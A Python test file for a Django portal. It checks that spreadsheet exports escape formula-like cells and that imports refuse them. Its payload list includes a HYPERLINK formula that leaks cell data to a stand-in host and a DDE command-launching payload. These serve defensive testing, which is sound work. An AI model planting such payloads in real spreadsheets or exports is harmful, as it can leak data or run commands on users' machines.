"""Exports never carry a live formula; imports refuse formula-like codes (issue 9, point 4)."""

import csv
import io

import openpyxl
import pytest
from import_export.formats.base_formats import CSV

from mappings.models import MappingRule
from mappings.resources import MappingRuleResource
from portal.exports import neutralise
from tests import factories
from tests.mappings.test_import_export import row_errors

pytestmark = pytest.mark.django_db

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
             "\t=1+1", "\r=1+1"]


@pytest.fixture
def rules(tenant):
    made = []
    for i, text in enumerate(DANGEROUS):  # stored as a note (free text), as an earlier import or the form could
        rule = MappingRule(tenant=tenant, category=f"Cat{i}", target_object="6110", note=text)
        rule.save()
        made.append(rule)
    return made


def exported(client, fmt):
    index = {"csv": 0, "xlsx": 1}[fmt]
    response = client.post("/mappings/mappingrule/export/", {"format": str(index), "resource": "0", "export_items": []})
    assert response.status_code == 200, response.content[:500]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=False)) for row in rows[1:]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_exported_cell_starts_like_a_formula(support_client, rules, fmt):
    rows = exported(support_client, fmt)
    notes = sorted(str(r["note"]) for r in rows)
    expected = ["'" + text for text in DANGEROUS]
    if fmt == "xlsx":  # XML keeps a carriage return as a line feed
        expected = [text.replace("\r", "\n") for text in expected]
    assert notes == sorted(expected)
    for row in rows:
        for value in row.values():
            assert not (isinstance(value, str) and value.startswith(tuple("=+-@\t\r"))), row


def test_an_xlsx_export_has_no_formula_cells(support_client, rules):
    response = support_client.post("/mappings/mappingrule/export/", {"format": "1", "resource": "0"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_an_export_imports_back_unchanged(support_client, rules, tenant):
    rows = exported(support_client, "csv")
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    result = MappingRuleResource().import_data(CSV().create_dataset(buffer.getvalue()), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    # Imports strip surrounding whitespace from every cell (as before), so only the tab and CR notes change.
    assert sorted(MappingRule.objects.values_list("note", flat=True)) == sorted(t.strip() for t in DANGEROUS)
    assert sum(r.import_type == "skip" for r in result.rows) == len([t for t in DANGEROUS if t == t.strip()])


@pytest.mark.parametrize("column", ["category", "policy", "target_object", "target_business_unit", "jde_object"])
@pytest.mark.parametrize("value", DANGEROUS + [" =1+1", "'=1+1"])
def test_an_import_refuses_a_formula_like_code(tenant, column, value):
    header = ["id", "tenant", column, "target_subsidiary"]
    dataset = CSV().create_dataset("")
    dataset.headers = header
    dataset.append(["", tenant.slug, value, "X1"])
    result = MappingRuleResource().import_data(dataset, dry_run=False)
    errors = " ".join(message for _, message in row_errors(result))
    assert "starts like a spreadsheet formula" in errors
    assert MappingRule.objects.count() == 0


def test_an_import_keeps_ordinary_values_and_free_text(tenant):
    dataset = CSV().create_dataset("")
    dataset.headers = ["id", "tenant", "category", "employee", "target_object", "note"]
    dataset.append(["", tenant.slug, "Meals & Entertainment", "-ops+travel@example.com", "6110", "=see finance wiki"])
    result = MappingRuleResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors(), row_errors(result)
    rule = MappingRule.objects.get()
    assert (rule.employee, rule.note) == ("-ops+travel@example.com", "=see finance wiki")


def test_neutralise_leaves_numbers_and_plain_text():
    assert neutralise(-5) == -5 and neutralise("Meals") == "Meals" and neutralise("=1") == "'=1"
    assert factories  # the shared builders stay importable for this package
